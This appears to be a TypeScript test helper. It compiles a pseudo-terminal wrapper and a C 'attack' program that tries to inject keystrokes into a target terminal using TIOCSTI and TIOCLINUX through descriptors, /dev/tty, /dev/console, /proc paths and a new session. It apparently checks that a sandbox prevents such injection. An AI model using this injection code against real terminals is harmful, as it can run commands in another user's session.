/** A terminal of its own around a command, and a program that tries to type into it from wherever it runs. */
import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';

/**
 * Gives COMMAND a new terminal as its controlling one, with TARGET_TTY="PATH DEVICE NUMBER" in the environment, passes
 * its output on and says at the end how many bytes wait in the terminal's input queue: nobody typed any.
 */
const TERMINAL_C = String.raw`
#define _GNU_SOURCE
#include <pty.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>
int main(int argc, char **argv) {
  int master, slave, waiting = 0, status;
  char name[128], target[256], buffer[4096];
  struct termios mode;
  struct stat st;
  if (argc < 2 || openpty(&master, &slave, name, NULL, NULL) != 0) return 70;
  tcgetattr(slave, &mode);
  cfmakeraw(&mode);
  tcsetattr(slave, TCSANOW, &mode);
  fstat(slave, &st);
  snprintf(target, sizeof target, "%s %lu %lu", name, (unsigned long) st.st_dev, (unsigned long) st.st_rdev);
  setenv("TARGET_TTY", target, 1);
  pid_t child = fork();
  if (child == 0) {
    close(master);
    login_tty(dup(slave));
    close(slave);
    execvp(argv[1], argv + 1);
    _exit(127);
  }
  fd_set set;
  for (;;) {
    struct timeval tick = { 0, 20000 };
    FD_ZERO(&set);
    FD_SET(master, &set);
    if (select(master + 1, &set, NULL, NULL, &tick) > 0) {
      ssize_t count = read(master, buffer, sizeof buffer);
      if (count > 0 && write(1, buffer, count) != count) return 70;
    } else if (waitpid(child, &status, WNOHANG) == child) break;
  }
  ioctl(slave, FIONREAD, &waiting);
  printf("\nqueue %d status %d\n", waiting, WIFEXITED(status) ? WEXITSTATUS(status) : 255);
  return 0;
}`;

/** Arguments: path, device and number of the terminal to type into. Says what it got in. */
const ATTACK_C = String.raw`
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <unistd.h>
static unsigned long device, number;
static void type_into(int fd, const char *how) {
  struct stat st;
  char paste[2] = { 3, 0 };
  if (fd < 0 || fstat(fd, &st) != 0 || st.st_dev != device || st.st_rdev != number) return;
  printf("reached by %s\n", how);
  int typed = 0;
  for (const char *word = "evil\n"; *word; word++) typed += ioctl(fd, TIOCSTI, word) == 0;
  if (typed) printf("TYPED by %s\n", how);
  if (ioctl(fd, TIOCLINUX, paste) == 0) printf("PASTED by %s\n", how);
}
int main(int argc, char **argv) {
  if (argc != 4) return 64;
  device = strtoul(argv[2], NULL, 10);
  number = strtoul(argv[3], NULL, 10);
  for (int fd = 0; fd < 64; fd++) type_into(fd, "descriptor");
  const char *ways[] = { "/dev/tty", "/dev/console", "/dev/tty0", "/proc/1/fd/0", "/proc/self/fd/0", argv[1] };
  for (unsigned way = 0; way < sizeof ways / sizeof *ways; way++) {
    type_into(open(ways[way], O_RDWR | O_NOCTTY | O_NONBLOCK), ways[way]);
    type_into(open(ways[way], O_WRONLY | O_NOCTTY | O_NONBLOCK), ways[way]);
  }
  setsid();
  int fd = open(argv[1], O_RDWR | O_NONBLOCK);
  if (fd >= 0) ioctl(fd, TIOCSCTTY, 1);
  type_into(fd, "a session of its own");
  printf("tried all\n");
  return 0;
}`;

export interface TerminalTools {
  /** Runs a command in a terminal. */
  readonly terminal: string;
  /** The attacker: static, to be copied into a tree. */
  readonly attack: string;
}

/** Compiles both into `directory`. */
export function makeTerminalTools(directory: string): TerminalTools {
  const build = (name: string, source: string, ...libraries: readonly string[]): string => {
    const path = join(directory, name);
    writeFileSync(`${path}.c`, source);
    execFileSync('gcc', ['-O1', '-static', '-w', `${path}.c`, '-o', path, ...libraries], { stdio: 'pipe' });
    return path;
  };
  return { terminal: build('terminal', TERMINAL_C, '-lutil'), attack: build('attack', ATTACK_C) };
}
